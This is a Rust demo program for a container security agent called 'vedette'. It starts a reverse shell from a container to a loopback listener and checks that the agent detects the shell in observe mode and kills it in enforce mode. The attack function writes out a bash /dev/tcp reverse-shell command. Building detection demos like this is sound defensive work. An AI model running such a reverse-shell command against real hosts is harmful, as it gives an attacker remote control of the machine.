//! `make demo`: a harmless reverse shell out of a container to a listener on loopback, seen by an
//! agent that only observes and then by one that acts.

use rustix::{
    fs::{Mode, OFlags},
    process::Signal,
    pty::{OpenptFlags, grantpt, openpt, ptsname, unlockpt},
};
use std::{
    fs::File,
    io::{IsTerminal, Read, Write, stdout},
    process::{Child, Command, ExitCode, Stdio},
    sync::{Arc, Mutex, PoisonError},
    thread,
    time::Duration,
};
use tempfile::TempDir;
use vedette_tests::{
    agent::{PATIENCE, own_name},
    listener::Wire,
    need::{Need, missing},
    process::{alive, kill, wait_for},
    remote_shell::RemoteShell,
    tools::{Names, Place},
    workspace,
};

/// The agent on a terminal of its own, so that it shows what a person would see.
struct Shown {
    child: Child,
    text: Arc<Mutex<String>>,
    _ready: TempDir,
}

impl Shown {
    fn start(arguments: &[&str]) -> Result<Self, String> {
        let said = |error: rustix::io::Errno| format!("no terminal for the agent: {error}");
        let master = openpt(OpenptFlags::RDWR | OpenptFlags::NOCTTY).map_err(said)?;
        grantpt(&master)
            .and_then(|()| unlockpt(&master))
            .map_err(said)?;
        let name = ptsname(&master, Vec::new()).map_err(said)?;
        let flags = OFlags::RDWR | OFlags::NOCTTY | OFlags::CLOEXEC;
        let terminal =
            File::from(rustix::fs::open(name.as_c_str(), flags, Mode::empty()).map_err(said)?);
        let directory = TempDir::with_prefix("vedette-demo-").map_err(|error| error.to_string())?;
        let ready = directory.path().join("ready");
        let mut command = Command::new(workspace::vedette());
        command
            .arg("run")
            .arg("--instance")
            .arg(own_name())
            .args(arguments)
            .arg("--plugins")
            .arg(workspace::plugins())
            .arg("--ready-file")
            .arg(&ready)
            .env("VEDETTE_CACHE", workspace::cache().join("compiled"))
            .stdin(Stdio::null())
            .stdout(terminal.try_clone().map_err(|error| error.to_string())?)
            .stderr(terminal);
        if !stdout().is_terminal() {
            command.env("NO_COLOR", "1");
        }
        let mut child = command
            .spawn()
            .map_err(|error| format!("the agent does not start: {error}"))?;
        // The command holds the terminal's other end; without it reading ends with the agent.
        drop(command);
        let text = Arc::new(Mutex::new(String::new()));
        let kept = Arc::clone(&text);
        thread::spawn(move || show(File::from(master), &kept));
        let up = wait_for(3 * PATIENCE, || {
            if ready.exists() {
                return Some(true);
            }
            child.try_wait().ok().flatten().map(|_| false)
        });
        if up != Some(true) {
            return Err("the agent does not get ready".into());
        }
        Ok(Self {
            child,
            text,
            _ready: directory,
        })
    }

    fn wait_for(&self, words: &str) -> bool {
        let said = || {
            self.text
                .lock()
                .unwrap_or_else(PoisonError::into_inner)
                .contains(words)
                .then_some(())
        };
        wait_for(PATIENCE, said).is_some()
    }

    fn stop(mut self) -> bool {
        kill(self.child.id(), Signal::INT);
        let ended = wait_for(PATIENCE, || self.child.try_wait().ok().flatten());
        // What it said last is still on its way.
        thread::sleep(Duration::from_millis(100));
        ended.is_some_and(|status| status.success())
    }
}

impl Drop for Shown {
    fn drop(&mut self) {
        if alive(self.child.id()) {
            kill(self.child.id(), Signal::KILL);
        }
        let _ = self.child.wait();
    }
}

fn show(mut terminal: File, kept: &Mutex<String>) {
    let mut buffer = [0; 4096];
    while let Ok(count @ 1..) = terminal.read(&mut buffer) {
        let _ = stdout().write_all(&buffer[..count]);
        let _ = stdout().flush();
        let mut kept = kept.lock().unwrap_or_else(PoisonError::into_inner);
        kept.push_str(&String::from_utf8_lossy(&buffer[..count]));
    }
}

fn attack() -> RemoteShell {
    println!("\ndemo: in a container: bash -i >& /dev/tcp/127.0.0.1/… 0>&1\n");
    RemoteShell::start(Place::Container, Names::Own, Wire::Clear, |tools, port| {
        let bash = tools.get("bash");
        format!("{bash} -c '{bash} -i >& /dev/tcp/127.0.0.1/{port} 0>&1'")
    })
}

fn observe() -> Result<(), String> {
    println!("demo: ==== an agent that observes ====\n");
    let agent = Shown::start(&[])?;
    let shell = attack();
    let pid = shell.shell(PATIENCE).ok_or("the shell does not answer")?;
    let found = agent.wait_for(
        shell
            .container()
            .unwrap_or_default()
            .get(..12)
            .unwrap_or_default(),
    );
    println!(
        "\ndemo: the remote end sent a command after 50 ms; the shell, pid {pid}, answered: it lives\n"
    );
    drop(shell);
    if !agent.stop() {
        return Err("the agent did not end well".into());
    }
    if found {
        Ok(())
    } else {
        Err("the shell was not found".into())
    }
}

fn enforce() -> Result<(), String> {
    println!("\ndemo: ==== an agent that acts (--enforce) ====\n");
    let agent = Shown::start(&["--enforce"])?;
    let shell = attack();
    shell
        .listener()
        .connected(PATIENCE)
        .ok_or("the shell does not connect")?;
    let found = agent.wait_for(
        shell
            .container()
            .unwrap_or_default()
            .get(..12)
            .unwrap_or_default(),
    );
    let answer = shell.listener().reply(Duration::from_secs(1));
    match answer {
        None => println!(
            "\ndemo: the remote end sent a command after 50 ms; nothing came back: the shell is dead\n"
        ),
        Some(_) => println!("\ndemo: the shell answered\n"),
    }
    drop(shell);
    if !agent.stop() {
        return Err("the agent did not end well".into());
    }
    if found && answer.is_none() {
        Ok(())
    } else {
        Err("the shell was not found or not killed".into())
    }
}

fn main() -> ExitCode {
    let needs = [
        Need::Agent,
        Need::Kernel,
        Need::Tool("runc"),
        Need::Tool("busybox"),
        Need::Tool("bash"),
    ];
    if let Some(reason) = missing(&needs) {
        eprintln!("demo: it cannot be shown here: {reason}");
        return ExitCode::FAILURE;
    }
    let _alone = workspace::alone();
    match observe().and_then(|()| enforce()) {
        Ok(()) => ExitCode::SUCCESS,
        Err(error) => {
            eprintln!("demo: {error}");
            ExitCode::FAILURE
        }
    }
}
